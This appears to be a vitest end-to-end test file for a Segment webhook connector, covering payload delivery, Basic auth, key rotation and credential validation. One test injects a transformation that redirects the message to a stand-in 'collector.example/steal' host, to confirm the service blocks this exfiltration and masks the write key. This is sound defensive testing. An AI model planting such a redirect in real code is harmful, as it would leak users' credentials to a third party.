import { Svix } from 'svix';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findEventType } from '../../catalog/index.ts';
import { startTestServer, type TestServer } from '../../server/testing.ts';
import { type SegmentFake, startSegmentFake } from './index.ts';
import { segmentManifest } from './manifest.ts';

const WRITE_KEY = 'wk3kYq2ZpTf8RvLx9mB4nC7d';
/** The reference: the template run as plain JavaScript. */
const runPlainJs = (code: string, eventType: string, example: unknown) =>
  new Function(`${code}\nreturn handler;`)()({
    eventType,
    payload: structuredClone(example),
    url: 'https://api.segment.io/',
    method: 'POST',
    headers: {},
    env: {},
    cancel: false,
  });

describe('Segment end to end: card → API → delivery → Segment (fake)', () => {
  let fake: SegmentFake;
  let server: TestServer;
  let svix: Svix;
  const auth = () => ({
    authorization: `Bearer ${server.operatorTokenValue}`,
    'content-type': 'application/json',
  });

  beforeAll(async () => {
    fake = await startSegmentFake({ writeKeys: [WRITE_KEY] });
    server = await startTestServer('pglite', {
      SWITCHYARD_ALLOW_PRIVATE_NETWORKS: '127.0.0.0/8',
      SWITCHYARD_RETRY_SCHEDULE: '1,1',
      SWITCHYARD_DESTINATION_OVERRIDES: `api.segment.io=${fake.url}`,
    });
    svix = new Svix(server.operatorTokenValue, { serverUrl: server.url });
  });
  afterAll(async () => {
    await server.close();
    await fake.close();
  });

  async function createCardEndpoint(template: string, writeKey = WRITE_KEY) {
    const app = await svix.application.create({ name: `Segment ${template}` });
    const res = await fetch(`${server.url}/api/v1/app/${app.id}/endpoint`, {
      method: 'POST',
      headers: auth(),
      body: JSON.stringify({ connector: { id: 'segment', template, credentials: { writeKey } } }),
    });
    expect(res.status).toBe(201);
    return { appId: app.id, endpoint: (await res.json()) as Record<string, unknown> & { id: string } };
  }

  it.each(segmentManifest.templates.map((t) => [t.id, t] as const))(
    'template %s: the fake receives exactly what the template builds, with Basic auth',
    async (_id, template) => {
      const { appId, endpoint } = await createCardEndpoint(template.id);
      expect(endpoint.eventTypes).toEqual(template.eventTypes);
      expect(endpoint.connector).toMatchObject({ id: 'segment', template: template.id, region: 'us' });
      expect(JSON.stringify(endpoint)).not.toContain(WRITE_KEY);
      for (const eventType of template.eventTypes) {
        const example = findEventType(eventType)!.example;
        const before = fake.received.length;
        const message = await svix.message.create(appId, { eventType, payload: example });
        await expect.poll(() => fake.received.length, { timeout: 10_000 }).toBe(before + 1);
        const call = fake.received.at(-1)!;
        const expected = runPlainJs(template.code, eventType, example);
        expect(call.path).toBe(new URL(expected.url).pathname);
        expect(call.writeKey).toBe(WRITE_KEY);
        expect(call.auth).toBe('basic');
        expect(call.headers.authorization).toBe(`Basic ${Buffer.from(`${WRITE_KEY}:`).toString('base64')}`);
        const { messageId, ...body } = call.body;
        expect(body).toEqual(expected.payload);
        expect(messageId).toMatch(/^sy-/);
        await expect
          .poll(
            async () =>
              (await svix.messageAttempt.listAttemptedDestinations(appId, message.id)).data[0]?.status,
          )
          .toBe(0);
      }
    },
  );

  it('a wrong write key gets Segment’s 401, and the attempt shows it', async () => {
    const { appId } = await createCardEndpoint('track-payment', 'wrongKeyButLongEnough123');
    const message = await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    const attempts = async () =>
      (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
    await expect.poll(async () => (await attempts())[0]?.responseStatusCode, { timeout: 10_000 }).toBe(401);
    await expect
      .poll(
        async () => (await svix.messageAttempt.listAttemptedDestinations(appId, message.id)).data[0]?.status,
      )
      .toBe(2);
    expect(await attempts()).toHaveLength(1);
  });

  it('never sends the write key elsewhere, and never shows it', async () => {
    const { appId, endpoint } = await createCardEndpoint('track-payment');
    const elsewhere =
      'function handler(w) { w.url = "https://collector.example/steal"; w.payload = { userId: "u", event: "E" }; return w; }';
    await svix.endpoint.transformation.patch(appId, endpoint.id, { code: elsewhere });
    const before = fake.received.length;
    const message = await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    const attempts = async () =>
      (await svix.messageAttempt.listByMsg(appId, message.id, { withContent: true })).data;
    await expect.poll(async () => (await attempts()).length, { timeout: 10_000 }).toBe(1);
    const [attempt] = await attempts();
    expect(attempt!.response).toMatch(/only sent to api\.segment\.io.*not to collector\.example/);
    expect(fake.received.length).toBe(before);

    const shown = await Promise.all([
      fetch(`${server.url}/api/v1/app/${appId}/endpoint/${endpoint.id}`, { headers: auth() }).then((r) =>
        r.text(),
      ),
      fetch(`${server.url}/api/v1/app/${appId}/endpoint`, { headers: auth() }).then((r) => r.text()),
      fetch(`${server.url}/api/v1/app/${appId}/endpoint/${endpoint.id}/headers`, { headers: auth() }).then(
        (r) => r.text(),
      ),
      fetch(`${server.url}/api/v1/app/${appId}/attempt/endpoint/${endpoint.id}?with_content=true`, {
        headers: auth(),
      }).then((r) => r.text()),
    ]);
    for (const text of shown) expect(text).not.toContain(WRITE_KEY);
    expect(JSON.parse(shown[0]!).connector.credentials.writeKey).toBe(`••••${WRITE_KEY.slice(-4)}`);
  });

  it('rotates the write key without recreating the endpoint', async () => {
    const { appId, endpoint } = await createCardEndpoint('track-payment', 'oldKeyThatSegmentForgot1');
    const res = await fetch(`${server.url}/api/v1/app/${appId}/endpoint/${endpoint.id}/connector`, {
      method: 'PATCH',
      headers: auth(),
      body: JSON.stringify({ credentials: { writeKey: WRITE_KEY } }),
    });
    expect(res.status).toBe(204);
    const before = fake.received.length;
    await svix.message.create(appId, {
      eventType: 'payment.succeeded',
      payload: findEventType('payment.succeeded')!.example,
    });
    await expect.poll(() => fake.received.length, { timeout: 10_000 }).toBe(before + 1);
  });

  it('refuses a card with a missing or malformed credential, naming the field', async () => {
    const app = await svix.application.create({ name: 'Bad card' });
    const res = await fetch(`${server.url}/api/v1/app/${app.id}/endpoint`, {
      method: 'POST',
      headers: auth(),
      body: JSON.stringify({ connector: { id: 'segment', template: 'track-payment', credentials: {} } }),
    });
    expect(res.status).toBe(422);
    const problem = (await res.json()) as { detail: { loc: string[] }[] };
    expect(problem.detail[0]!.loc).toEqual(['body', 'connector', 'credentials', 'writeKey']);
  });
});
